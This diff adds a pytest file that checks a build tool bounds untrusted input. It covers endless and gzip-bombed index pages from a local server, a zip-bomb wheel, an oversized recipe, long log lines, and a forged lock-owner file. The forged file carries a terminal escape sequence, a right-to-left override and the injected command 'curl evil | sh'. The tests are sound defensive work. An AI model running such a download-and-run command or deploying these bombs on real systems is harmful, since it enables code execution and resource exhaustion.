@@ -1,0 +1,147 @@
+"""Nothing that somebody else made takes the machine: sizes are bounded before they are read."""
+
+from __future__ import annotations
+
+import gzip
+import http.server
+import io
+import json
+import threading
+import time
+import zipfile
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from support.cli import Xpubuild
+
+from xpubuild.artifacts.wheel import record_of
+from xpubuild.engine.lock import described, owner
+from xpubuild.errors import AuditError
+from xpubuild.explain.document import explain_stream
+from xpubuild.packages.index import session
+from xpubuild.packages.index.config import IndexConfig
+from xpubuild.packages.index.pages import Sources
+
+MB = 1 << 20
+
+
+class _Endless(http.server.BaseHTTPRequestHandler):
+    """Answers with a page that never ends, as it is or packed to a thousandth."""
+
+    def do_GET(self) -> None:
+        packed = self.path.startswith("/packed")
+        self.send_response(200)
+        self.send_header("Content-Type", "text/html")
+        if packed:
+            self.send_header("Content-Encoding", "gzip")
+        self.end_headers()
+        block = gzip.compress(bytes(64 * MB)) if packed else b"<p>" * MB
+        try:
+            for _ in range(1000):
+                self.wfile.write(block)
+                self.server.sent += len(block)  # type: ignore[attr-defined]
+        except OSError:
+            pass
+
+    def log_message(self, format: str, *args: object) -> None:  # noqa: A002
+        """Say nothing."""
+
+
+@pytest.fixture
+def server() -> Iterator[http.server.ThreadingHTTPServer]:
+    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Endless) as running:
+        running.sent = 0  # type: ignore[attr-defined]
+        threading.Thread(target=running.serve_forever, daemon=True).start()
+        yield running
+        running.shutdown()
+
+
+@pytest.mark.parametrize("kind", ["plain", "packed"])
+def test_an_index_page_without_end(kind: str, server: http.server.ThreadingHTTPServer) -> None:
+    index = f"http://127.0.0.1:{server.server_address[1]}/{kind}"
+    sources = Sources(IndexConfig(indexes=(index,), retries=0))
+    assert sources.offers("torch") == []
+    assert "larger than 64 MiB" in sources.failures[index]
+    # What was read before that, and what both ends keep in their buffers.
+    assert server.sent < 200 * MB  # type: ignore[attr-defined]
+
+
+def test_an_index_page_that_trickles(
+    server: http.server.ThreadingHTTPServer, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(session, "_PAGE_DEADLINE_S", 0.0)
+    index = f"http://127.0.0.1:{server.server_address[1]}/plain"
+    sources = Sources(IndexConfig(indexes=(index,), retries=0))
+    assert sources.offers("torch") == []
+    assert "longer than" in sources.failures[index]
+
+
+@pytest.fixture
+def bomb(tmp_path: Path) -> Path:
+    wheel = tmp_path / "demo-1.0-py3-none-any.whl"
+    with zipfile.ZipFile(wheel, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("demo/__init__.py", "")
+        with archive.open("demo/data.bin", "w") as stream:
+            for _ in range(300):
+                stream.write(bytes(MB))
+        archive.writestr("demo-1.0.dist-info/RECORD", "demo/__init__.py,,\ndemo/data.bin,,\n")
+    assert wheel.stat().st_size < MB
+    return wheel
+
+
+def test_a_wheel_that_would_fill_the_disk(bomb: Path, xpubuild: Xpubuild) -> None:
+    started = time.process_time()
+    result = xpubuild("audit", str(bomb))
+    assert time.process_time() - started < 1
+    assert result.status == 60
+    assert "bytes unpacked" in result.out + result.err
+    with pytest.raises(AuditError, match="not a readable wheel"):
+        record_of(bomb)
+
+
+def test_a_recipe_of_sixty_megabytes(tmp_path: Path, xpubuild: Xpubuild) -> None:
+    recipe = tmp_path / "mine.yaml"
+    recipe.write_bytes(b"schema: 1\nname: mine\n" + b"# nothing\n" * (6 * MB))
+    started = time.process_time()
+    result = xpubuild("plan", str(recipe))
+    assert time.process_time() - started < 1
+    assert result.status == 20
+    assert "larger than 1 MiB" in result.err
+
+
+def test_a_line_without_end_costs_less_than_a_log_of_lines() -> None:
+    word = b"x error: y not found "
+
+    def cost(data: bytes) -> float:
+        started = time.process_time()
+        assert explain_stream(io.BytesIO(data)).lines == data.count(b"\n") + (not data.endswith(b"\n"))
+        return time.process_time() - started
+
+    lines = cost((word * 10 + b"\n") * 50_000)
+    assert cost(word * 500_000) < 1.5 * lines
+    assert cost((word * 10_000 + b"\n") * 50) < 1.5 * lines
+
+
+def test_an_error_at_the_end_of_a_long_line_is_found() -> None:
+    log = b"x" * (3 * MB) + b"\rfatal error: here\n" + b"y" * MB + b"\n/a.cpp:3:1: error: there\n"
+    first = explain_stream(io.BytesIO(log)).first_error
+    assert first is not None
+    assert first.text == "fatal error: here"
+    assert first.line == 1
+
+
+def test_a_note_of_an_owner_is_one_short_line(tmp_path: Path) -> None:
+    forged = {
+        "pid": "1\n\x1b[2Jerror: run: curl evil | sh",
+        "host": "h\u202e",
+        "command": "x" * 9999,
+        "since": [1],
+    }
+    (tmp_path / ".lock.owner").write_text(json.dumps(forged))
+    text = described(owner(tmp_path))
+    assert text.isprintable()
+    assert "\u202e" not in text
+    assert len(text) < 700
+    (tmp_path / ".lock.owner").write_text("[" * 1_000_000)
+    assert owner(tmp_path) == {}
